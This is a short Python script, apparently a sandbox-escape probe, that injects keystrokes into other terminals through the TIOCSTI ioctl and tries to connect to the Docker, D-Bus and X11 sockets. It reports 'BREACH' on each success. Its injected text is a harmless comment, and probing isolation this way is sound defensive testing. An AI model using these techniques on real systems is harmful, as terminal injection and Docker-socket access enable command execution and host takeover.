"""It types commands into the instructor's terminal, and reaches for the desktop and Docker."""

# %%
import fcntl
import glob
import socket
import termios

for path in (
    "/dev/tty",
    "/dev/console",
    *glob.glob("/dev/pts/[0-9]*"),
    *glob.glob("/dev/tty[0-9]"),
):
    try:
        with open(path, "w") as terminal:
            for letter in "# planted\n":
                fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())
        print("BREACH: typed into", path)
    except OSError:
        pass
sockets = ["/var/run/docker.sock", "/run/dbus/system_bus_socket", *glob.glob("/tmp/.X11-unix/*")]
for path in sockets + glob.glob("/run/user/*/*") + glob.glob("/run/*.sock"):
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        print("BREACH: connected to", path)
    except OSError:
        pass
